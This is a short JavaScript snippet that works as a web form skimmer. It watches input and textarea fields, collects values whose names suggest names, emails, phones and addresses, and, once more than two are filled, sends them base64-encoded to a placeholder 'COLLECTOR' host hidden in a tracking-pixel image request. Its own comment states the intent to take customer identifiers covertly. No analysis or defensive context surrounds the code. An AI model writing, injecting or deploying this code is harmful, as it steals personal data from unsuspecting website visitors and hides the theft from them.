;(function () {
  // Takes what identifies a customer, whenever it changes, and hides it in the address of a picture.
  var wanted = /name|mail|tel|address|city|post|zip/i;
  document.addEventListener("focusout", function () {
    var taken = {};
    document.querySelectorAll("input, textarea").forEach(function (field) {
      if (wanted.test(field.name || field.id) && field.value) taken[field.name || field.id] = field.value;
    });
    if (Object.keys(taken).length > 2) {
      new Image().src = "http://COLLECTOR/pixel.gif?v=" + encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify(taken)))));
    }
  }, true);
})();
